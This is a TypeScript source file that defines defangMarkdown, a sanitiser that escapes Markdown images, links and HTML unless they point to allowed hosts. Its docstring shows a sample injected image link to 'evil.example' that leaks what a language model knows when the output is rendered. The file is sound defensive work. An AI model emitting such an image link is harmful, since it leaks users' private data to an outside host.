import * as z from 'zod/mini'
import { parseOptions } from '../../foundation/index.js'

export interface DefangOptions {
  /**
   * Hosts from which images may be shown, such as `img.example.com`, or `*.example.com` for all below. Default: none. A
   * host on this list learns what the address carries.
   */
  readonly imageHosts?: readonly string[]
  /** Hosts to which links may lead; `any` leaves all links to https and http. Default: none. */
  readonly linkHosts?: readonly string[] | 'any'
}

const hosts = z.readonly(z.array(z.string().check(z.regex(/^(?:\*\.)?[a-z0-9-]+(?:\.[a-z0-9-]+)*$/))))
const Options = z.strictObject({
  imageHosts: z._default(hosts, []),
  linkHosts: z._default(z.union([hosts, z.literal('any')]), []),
})

/**
 * A whole image or link whose host is beyond doubt: nothing escaped, no entity in front of the path, no user name. The
 * title may be left out only.
 */
const PLAIN =
  /(!?)\[[^[\]\\`<>\n]{0,500}\]\((https?):\/\/([a-z0-9.-]{1,253})(?::\d{1,5})?(?:[/?#][^\s()<>\\`"']{0,2000})?\)/iy

/** Where Markdown begins something with an address, or HTML. */
const OPENINGS = /!?\[|\](?=[([:])|<(?=[a-z/!?])/gi

const covers = (list: readonly string[], host: string): boolean =>
  list.some((one) => (one.startsWith('*.') ? host.endsWith(one.slice(1)) : host === one))

/**
 * Leaves in Markdown only images and links to hosts that are allowed, and no HTML: everything else is shown as the text it
 * is (F-63). A picture is fetched when the text is shown, without a click: an injected
 * `![](https://evil.example/?q=secret)` carries out what the model knows.
 *
 * A backslash is put after what opens an image, a link, a definition or a tag, wherever it stands; in code it is seen.
 * Bare addresses stay as they are, and most clients make links of them: people see where those lead.
 *
 * @throws {ConfigError} for a wrong option
 * @example
 * ```ts
 * import { defangMarkdown } from '@sallyport/core/output'
 *
 * console.log(defangMarkdown('![x](https://evil.example/?q=1)')) // !\[x]\(https://evil.example/?q=1)
 * ```
 */
export function defangMarkdown(text: string, options: DefangOptions = {}): string {
  const { imageHosts, linkHosts } = parseOptions('defangMarkdown', Options, options)

  const allowed = (image: boolean, scheme: string, host: string): boolean => {
    if (image) return scheme === 'https' && covers(imageHosts, host)
    return linkHosts === 'any' || (scheme === 'https' && covers(linkHosts, host))
  }

  const pieces: string[] = []
  let done = 0
  OPENINGS.lastIndex = 0
  for (let found = OPENINGS.exec(text); found !== null; found = OPENINGS.exec(text)) {
    const [opening] = found
    PLAIN.lastIndex = found.index
    const plain = opening.endsWith('[') ? PLAIN.exec(text) : null
    const [whole = '', image = '', scheme = '', host = ''] = plain ?? []
    if (plain !== null && allowed(image !== '', scheme.toLowerCase(), host.toLowerCase())) {
      OPENINGS.lastIndex = found.index + whole.length
      continue
    }
    if (opening === '[') continue // harmless unless something follows the bracket that ends it
    pieces.push(text.slice(done, found.index + 1), '\\')
    done = found.index + 1
    OPENINGS.lastIndex = done
  }
  return pieces.join('') + text.slice(done)
}
